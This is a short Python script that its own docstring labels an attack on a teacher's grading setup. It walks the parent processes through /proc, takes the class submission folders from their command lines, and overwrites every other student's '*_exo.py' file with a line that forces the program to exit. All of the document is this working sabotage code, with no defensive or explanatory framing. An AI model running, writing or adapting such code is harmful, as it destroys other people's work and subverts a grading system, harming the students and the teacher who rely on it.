"""Attack: rewrite every other student's serveur_exo.py in the teacher's class folder."""

import os

BROKEN = "raise SystemExit('détruit')\n"

pid, folders = os.getpid(), set()
while pid > 1:
    try:
        pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        argv = open(f"/proc/{pid}/cmdline", "rb").read().decode(errors="replace").split("\0")
    except (OSError, ValueError, IndexError):
        break
    submissions = [arg for arg in argv if os.path.isfile(os.path.join(arg, "serveur_exo.py"))]
    folders.update(os.path.dirname(os.path.abspath(arg)) for arg in submissions)  # the class folder
for folder in folders:
    for root, _, files in os.walk(folder):
        for name in files:
            if name.endswith("_exo.py"):
                try:
                    with open(os.path.join(root, name), "w") as target:
                        target.write(BROKEN)
                except OSError:
                    pass
